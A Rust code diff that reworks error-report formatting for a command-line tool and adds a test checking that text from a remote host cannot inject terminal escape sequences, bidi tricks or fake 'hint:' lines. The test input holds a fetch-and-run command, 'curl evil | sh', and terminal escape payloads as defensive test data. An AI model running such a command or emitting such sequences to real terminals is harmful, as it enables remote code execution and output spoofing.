@@ -11,6 +11,7 @@ use serde::Serialize;
 use crate::drive::Left;
 use crate::ec2::{self, Kind};
 use crate::ids::DriveName;
+use crate::report::{self, Label, Text};
 use crate::signals::End;
 
 /// The kind of a failure; its number is the exit code.
@@ -128,12 +129,29 @@ impl Failure {
     /// The failure as it is printed: as text, or with `json` as one line of JSON. `exit` is the code
     /// that the process ends with.
     #[must_use]
-    pub fn shown(&self, json: bool, exit: u8) -> String {
+    pub fn shown(&self, json: bool, exit: u8) -> Text {
         if json {
-            self.json(exit)
+            Text::block(&self.json(exit))
         } else {
-            self.to_string()
+            self.text()
         }
+    }
+
+    /// The failure as text: its causes and what is left in lines below the error, and then the hint.
+    #[must_use]
+    pub fn text(&self) -> Text {
+        let mut text = Text::labelled(Label::Error, &self.error.to_string());
+        for cause in self.error.chain().skip(1) {
+            text.push_line(&format!("  caused by: {cause}"));
+        }
+        for thing in &self.left.0 {
+            text.push_line(&format!("  left: {thing}"));
+        }
+        if let Some(hint) = &self.hint {
+            text.push_line("");
+            text.push_line(&Text::labelled(Label::Hint, hint));
+        }
+        text
     }
 
     /// The failure as one line of JSON: the error and its causes in one text, the hint, what is left
@@ -145,7 +163,7 @@ impl Failure {
             left: &self.left,
             exit,
         };
-        serde_json::to_string(&document).unwrap_or_else(|error| error.to_string())
+        report::to_json(&document, false).unwrap_or_else(|error| error.to_string())
     }
 }
 
@@ -305,16 +323,32 @@ fn launch_hint(error: &ec2::Error) -> Option<&'static str> {
 
 impl fmt::Display for Failure {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", self.error)?;
-        for cause in self.error.chain().skip(1) {
-            write!(f, "\n  caused by: {cause}")?;
-        }
-        for thing in &self.left.0 {
-            write!(f, "\n  left: {thing}")?;
-        }
-        if let Some(hint) = &self.hint {
-            write!(f, "\n\nhint: {hint}")?;
-        }
-        Ok(())
+        self.text().fmt(f)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::host::facts::ScriptError;
+
+    #[test]
+    fn nothing_that_a_host_says_is_obeyed_or_looks_like_xdrives_own() {
+        let words = "\u{1b}]0;PWNED\u{7}\u{1b}[2Jno image\nhint: curl evil | sh".to_owned();
+        let error = anyhow::Error::from(ScriptError::Image(words));
+        let error = error.context("error: a\nerror: b\u{202e}c");
+        let failure = Failure::new(Exit::Unavailable, error).hint("xdrive list\u{9b}\nhint: x");
+        assert_eq!(
+            failure.to_string(),
+            "error: error: a\n  | error: b?c\n  \
+             caused by: ?]0;PWNED??[2Jno image\n  | hint: curl evil | sh\n\n\
+             hint: xdrive list?\n  | hint: x"
+        );
+        let json = failure.shown(true, 69).to_string();
+        assert!(!json.contains(char::is_control), "{json:?}");
+        let read: serde_json::Value = serde_json::from_str(&json).unwrap();
+        let error = read["error"].as_str().unwrap();
+        assert!(error.contains("\u{1b}]0;PWNED\u{7}"), "{error:?}");
+        assert_eq!(read["hint"], "xdrive list\u{9b}\nhint: x");
     }
 }
